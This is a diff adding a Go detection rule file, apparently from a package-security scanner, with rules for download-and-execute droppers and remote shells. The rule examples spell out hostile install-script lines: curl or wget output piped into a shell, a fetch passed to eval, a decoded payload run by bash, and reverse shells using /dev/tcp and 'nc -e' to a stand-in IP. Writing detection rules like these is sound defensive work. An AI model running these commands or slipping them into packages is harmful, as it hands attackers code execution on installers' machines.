@@ -1,0 +1,42 @@
+package rule
+
+import b "taisei/detect/behaviour"
+
+// dropper: what another host sends is run.
+func dropper() []Rule {
+	runs := []string{b.Code, b.Process}
+	return []Rule{
+		{
+			ID: "download_run", Severity: High,
+			When: []Condition{
+				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Sinks: runs, Script: No, NotScheme: []string{"tcp"}},
+				{Triggers: []string{b.Install, b.Command}, Sources: []string{b.Download}, Sinks: runs, Script: Yes, Via: encodings, NotScheme: []string{"tcp"}},
+				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Download}, Sinks: runs, Via: encodings, NotScheme: []string{"tcp"}},
+			},
+			Graver: []Condition{{Via: encodings}, {Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No}},
+			Examples: []Example{
+				Package("piped into a shell", `"scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}`, nil),
+				Package("saved, then started", `"scripts":{"postinstall":"wget -q https://c.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"}`, nil),
+				Package("evaluated", `"main":"i.js"`, map[string]string{"i.js": "require('https').get('https://c.example/p.js',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})"}),
+				One("decoded first", "install.sh", "curl -s https://c.example/x | base64 -d | bash\n"),
+			},
+			Neighbours: []Example{
+				Package("a binary fetched, not run", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs');require('https').get('https://d.example/tool.tgz',r=>r.pipe(fs.createWriteStream('tool.tgz')))"}),
+				One("an installer that fetches the next", "install.sh", "curl -fsSL https://get.example/install.sh | sh\n"),
+				Package("data fetched", `"main":"i.js"`, map[string]string{"i.js": "exports.get=()=>fetch('https://api.example/v1').then(r=>r.json())"}),
+			},
+		},
+		{
+			ID: "remote_shell", Severity: Critical,
+			When: []Condition{{Sources: []string{b.Download}, Sinks: []string{b.Code}, Schemes: []string{"tcp"}}},
+			Examples: []Example{
+				One("bash's own network", "install.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
+				Package("nc", `"scripts":{"postinstall":"nc -e /bin/sh 203.0.113.7 4444"}`, nil),
+			},
+			Neighbours: []Example{
+				One("a port is tried", "install.sh", "if (echo > /dev/tcp/localhost/8080) 2>/dev/null; then echo up; fi\n"),
+				One("text is sent", "install.sh", "echo ping | nc -w 1 stats.example 8125\n"),
+			},
+		},
+	}
+}
